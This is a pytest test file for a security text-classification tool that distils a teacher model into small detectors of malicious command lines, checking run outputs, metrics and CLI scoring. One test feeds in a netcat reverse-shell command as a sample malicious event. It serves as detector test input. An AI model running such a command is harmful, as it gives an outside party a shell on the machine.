"""A whole run, end to end, on a tiny user-supplied table (the bring-your-own-data path)."""

from __future__ import annotations

import csv
import json

import numpy as np
import pytest
from typer.testing import CliRunner

from distilsec.cli.app import app
from distilsec.config import validate_config
from distilsec.run import run_experiment
from tests.conftest import make_texts


def _write_table(path, n=300, multiclass=False):
    texts, labels, groups = make_texts(n, seed=5)
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i, (t, lab, g) in enumerate(zip(texts, labels, groups, strict=True)):
            if multiclass and lab == "malicious" and ("http" in t or "enc" in t):
                lab = "downloader"
            w.writerow([t, lab, f"{g}-{i % 7}"])
    return path


def _config(table, tiny_bert, **extra):
    cfg = {
        "run": {"name": "tiny", "seed": 0, "device": "cpu"},
        "data": {
            "task": "table",
            "path": str(table),
            "text_column": "event",
            "label_column": "verdict",
            "group_column": "host",
        },
        "curation": {"near_dup_threshold": 0.95},
        "split": {"val_fraction": 0.2, "test_fraction": 0.3},
        "teacher": {
            "type": "encoder.v1",
            "model": str(tiny_bert),
            "max_length": 32,
            "epochs": 1,
            "max_train_samples": 200,
            "device": "cpu",
        },
        "students": {
            "student": {
                "type": "char_cnn.v1",
                "max_len": 64,
                "embedding_dim": 8,
                "n_filters": 8,
                "hidden_dims": [16],
                "epochs": 3,
                "batch_size": 32,
                "device": "cpu",
            },
            "linear": {"type": "hashed_linear.v1", "n_features": 4096, "epochs": 3},
        },
        "noise": {"rates": [0.3]},
        "evaluation": {"target_fpr": 0.01, "throughput_sample": 50},
    }
    cfg.update(extra)
    return validate_config(cfg)


def test_run_binary_writes_everything(tmp_path, tiny_bert):
    table = _write_table(tmp_path / "events.csv")
    result = run_experiment(_config(table, tiny_bert), out=tmp_path / "run")
    run = result.run_dir
    for name in ("teacher", "student", "student-hard", "linear", "linear-hard"):
        assert (run / name / "manifest.json").is_file()
        assert list((run / name).glob("*.safetensors"))
        manifest = json.loads((run / name / "manifest.json").read_text())
        assert 0.0 <= manifest["threshold"] <= 1.0 + 1e-9 and manifest["data_fingerprint"]
    for f in ("report.md", "metrics.json", "config.yaml", "env.json", "log.txt", "splits/train.txt"):
        assert (run / f).is_file(), f
    assert list((run / "plots").glob("*.png"))
    metrics = json.loads((run / "metrics.json").read_text())
    for name in ("teacher", "student", "student-hard"):
        m = metrics["models"][name]
        assert {"auc", "macro_f1", "tpr_at_fpr_0.001", "threshold", "tp", "fp"} <= set(m)
    modes = {(r["noise_rate"], r["mode"]) for r in metrics["noise_experiment"]}
    assert (0.3, "distilled") in modes and (0.3, "hard labels") in modes
    report = (run / "report.md").read_text()
    assert "Shortcut audit" in report and "roc.png" in report
    # groups never straddle splits
    split_ids = {p: set((run / "splits" / f"{p}.txt").read_text().split()) for p in ("train", "val", "test")}
    assert not split_ids["train"] & split_ids["test"]

    # the shipped bundle scores through the CLI
    events = tmp_path / "events.txt"
    events.write_text("nc -e /bin/sh 10.0.0.2 9001\nls -la /home/user\n")
    res = CliRunner().invoke(app, ["score", str(events), "--model", str(run / "student")])
    assert res.exit_code == 0, res.output
    rows = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 2 and all(r["label"] in ("benign", "malicious") for r in rows)


def test_run_multiclass(tmp_path, tiny_bert):
    table = _write_table(tmp_path / "events.csv", multiclass=True)
    cfg = _config(table, tiny_bert, noise={"rates": []})
    result = run_experiment(cfg, out=tmp_path / "run")
    m = result.metrics["models"]["student"]
    assert len(m["labels"]) == 3 if "labels" in m else True
    proba_cols = json.loads((result.run_dir / "student" / "manifest.json").read_text())["classes"]
    assert proba_cols == ["benign", "downloader", "malicious"]
    assert np.isfinite(m["macro_f1"])


def test_cli_run_reports_config_errors(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("data: {task: table}\nteacher: {type: encoder.v1}\nstudents: {}\n")
    res = CliRunner().invoke(app, ["run", str(bad)])
    assert res.exit_code == 2 and "students" in res.output
    res = CliRunner().invoke(app, ["run", str(tmp_path / "missing.yaml")])
    assert res.exit_code == 2 and "not found" in res.output


@pytest.mark.parametrize("name", ["cmdline-distill.yaml", "url-distill.yaml"])
def test_shipped_configs_validate(name):
    from pathlib import Path

    from distilsec.config import load_config
    from distilsec.registry import get_factory

    cfg = load_config(Path(__file__).resolve().parents[1] / "configs" / name)
    for spec in [cfg.teacher, *cfg.students.values()]:
        get_factory(spec.type)(**spec.params)  # every key is a real constructor argument
